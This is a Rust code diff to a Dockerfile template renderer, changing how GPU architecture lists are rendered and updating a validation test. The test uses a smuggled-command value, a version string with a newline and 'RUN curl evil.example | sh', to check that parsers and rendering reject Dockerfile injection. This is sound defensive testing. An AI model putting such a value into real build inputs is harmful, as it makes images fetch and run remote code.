@@ -353,7 +353,7 @@ fn render_one(
         extensions => minijinja::value::Serde(&image.extensions),
         flavour => minijinja::value::Serde(&image.flavour),
         cuda_package => image.cuda.replace('.', "-"),
-        arch_list => image.archs.join(";"),
+        arch_list => image.archs.iter().map(|arch| arch.as_str()).collect::<Vec<_>>().join(";"),
         ca_bundle => ca_bundle.map(|_| CA_BUNDLE_FILE),
         wheel_cache => matrix.wheels == crate::model::matrix::WheelSource::Cache,
         extra_labels => extra_labels,
@@ -1095,13 +1095,14 @@ mod tests {
         // A version field cannot even hold it: the type refuses the text ...
         let unsafe_text = "2.7.0\nRUN curl evil.example | sh";
         assert!(crate::model::axes::VersionText::parse(unsafe_text).is_err());
-        // ... and a field still kept as text (the wheel's GPU arch list) is refused at render.
-        images[0].archs = vec![unsafe_text.to_string()];
+        assert!(crate::model::version::ComputeCapability::parse(unsafe_text).is_err());
+        // ... and a field still kept as text (the tag) is refused at render.
+        images[0].tag = unsafe_text.to_string();
         let error = render_all(&images, &matrix, &Templates::embedded(), None)
             .unwrap_err()
             .to_string();
         assert!(
-            error.contains("refusing to render unsafe value for archs"),
+            error.contains("refusing to render unsafe value for tag"),
             "{error}"
         );
     }
